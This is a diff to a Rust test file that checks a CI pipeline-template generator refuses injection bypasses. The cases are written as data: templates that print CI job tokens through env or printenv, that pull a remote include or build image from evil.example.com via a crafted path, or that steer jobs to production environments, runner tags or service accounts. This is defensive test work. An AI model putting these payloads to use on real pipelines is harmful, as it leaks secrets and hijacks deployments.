@@ -1711,7 +1711,7 @@ fn a_proven_fragment_does_not_vouch_for_a_name_the_template_writes() {
     let (env, _) = one_rule("pipeline_name:pipelines");
     env.write(
         "t.yml.tera",
-        "{# the pipelines are named after their programs: deploy #}\nj-{{ pipeline_name }}:\n  script:\n    - {{ pipeline_name }} || true\n",
+        "# the pipelines are named after their programs: deploy\nj-{{ pipeline_name }}:\n  script:\n    - {{ pipeline_name }} || true\n",
     );
     let alone = env.write("alone.diff", "A\tpipelines/deploy/m.py\n");
     let alone = env.run(&["generate", "--diff", &alone.display().to_string()]);
@@ -1987,7 +1987,7 @@ fn the_twenty_fifth_passes_bypasses_are_refused() {
         "pipeline_name:pipelines",
         "deploy-{{ pipeline_name }}:\n  script: [echo deploy]\n  environment: {{ pipeline_name }}\n",
         "pipelines/production/x.py",
-        "names the environment by a value",
+        "is led by a value",
     );
     // The environment written to a file is refused in any fragment.
     let env = TestEnv::new();
@@ -2024,5 +2024,85 @@ fn the_twenty_fifth_passes_bypasses_are_refused() {
             attack(&config, env.path(), &listing, true, &template),
             Outcome::Rendered
         );
+    }
+}
+
+/// The twenty-sixth pass: a value equal to a word of a Tera comment or a
+/// tag's variable name counted as the template's own (`npm run {{ stage }}`
+/// with a loop variable `env`; `environment: {{ name }}` under a comment
+/// that says production); the environment printed by a name the template
+/// also writes after `$`, or through a variable whose value glues a value
+/// to `_TOKEN`; and names that pick what a job gets or runs (environment
+/// through a variable, image, include, tags, trigger, a Kubernetes
+/// service account) led by a value. Each rendered before; 1a, 1b and 2
+/// printed the token in the sandbox.
+#[test]
+fn the_twenty_sixth_passes_bypasses_are_refused() {
+    let stop = "pipeline_name:pipelines,stage_name::pipelines";
+    let cases = [
+        (
+            "{#- Runs the stage npm script in each env. -#}\n{% for env in [\"dev\", \"prod\"] %}\nrun-{{ pipeline_name }}-{{ stage_name }}-{{ env }}:\n  script:\n    - cd \"pipelines/{{ pipeline_name }}\"\n    - npm run {{ stage_name }}\n{% endfor %}\n",
+            "pipelines/web/env/x.js",
+            "names the command `env`",
+        ),
+        (
+            "{# Never used for production (see deploy-prod). #}\ndeploy-{{ pipeline_name }}:\n  script: [echo deploy]\n  environment:\n    name: {{ pipeline_name }}\n",
+            "pipelines/production/x/m.py",
+            "is led by a value (`production`)",
+        ),
+        (
+            "show-{{ pipeline_name }}:\n  script:\n    - echo \"$CI_JOB_TOKEN\" | docker login -u gitlab-ci-token --password-stdin \"$CI_REGISTRY\"\n    - env | grep \"^{{ pipeline_name | upper }}=\" || true\n",
+            "pipelines/ci_job_token/x/m.py",
+            "prints the environment",
+        ),
+        (
+            "show-{{ pipeline_name }}:\n  variables:\n    TOKEN_VAR: \"{{ pipeline_name | upper }}_TOKEN\"\n  script:\n    - printenv \"$TOKEN_VAR\" || true\n",
+            "pipelines/ci_job/x/m.py",
+            "prints the environment",
+        ),
+        (
+            "deploy-{{ pipeline_name }}:\n  variables:\n    DEPLOY_ENV: {{ pipeline_name }}\n  script: [echo deploy]\n  environment:\n    name: $DEPLOY_ENV\n",
+            "pipelines/production/x/m.py",
+            "is led by a value (`production`)",
+        ),
+        (
+            "build-{{ pipeline_name }}:\n  image: \"{{ pipeline_name }}/builder:1\"\n  script: [echo build]\n",
+            "pipelines/evil.example.com/x/m.py",
+            "is led by a value",
+        ),
+        (
+            "include:\n  - remote: \"https://{{ pipeline_name }}/ci/shared.yml\"\nj-{{ pipeline_name }}:\n  script: [echo]\n",
+            "pipelines/evil.example.com/x/m.py",
+            "is led by a value",
+        ),
+        (
+            "j-{{ pipeline_name }}:\n  tags: [\"{{ pipeline_name }}\"]\n  script: [echo]\n",
+            "pipelines/prod-deployer/x/m.py",
+            "is led by a value",
+        ),
+        (
+            "j-{{ pipeline_name }}:\n  trigger:\n    project: \"{{ pipeline_name }}/deployments\"\n",
+            "pipelines/platform/x/m.py",
+            "is led by a value",
+        ),
+        (
+            "j-{{ pipeline_name }}:\n  variables:\n    KUBERNETES_SERVICE_ACCOUNT_OVERWRITE: {{ pipeline_name }}\n  script: [echo]\n",
+            "pipelines/prod-deployer/x/m.py",
+            "is led by a value",
+        ),
+    ];
+    for (template, path, detail) in cases {
+        assert_refused_by(stop, template, path, detail);
+    }
+    // Fixed text first is fine; so is a word the template prints itself
+    // (`dev/{{ id }}` with a folder `dev`).
+    let (env, config) = one_rule(stop);
+    let listing = "A\tpipelines/dev/x/m.py\n";
+    for template in [
+        "deploy-{{ pipeline_name }}:\n  script: [echo deploy]\n  environment:\n    name: review/{{ pipeline_name }}\n  image: registry.example.com/{{ pipeline_name }}:1\n  tags: [gpu-{{ pipeline_name }}]\n",
+        "{% for env in [\"dev\", \"prod\"] %}\ndeploy-{{ pipeline_name }}-{{ env }}:\n  script: [echo deploy]\n  environment: {{ env }}/{{ pipeline_name }}\n{% endfor %}\n",
+    ] {
+        env.write("t.yml.tera", template);
+        assert_eq!(attack(&config, env.path(), listing, true, template), Outcome::Rendered);
     }
 }
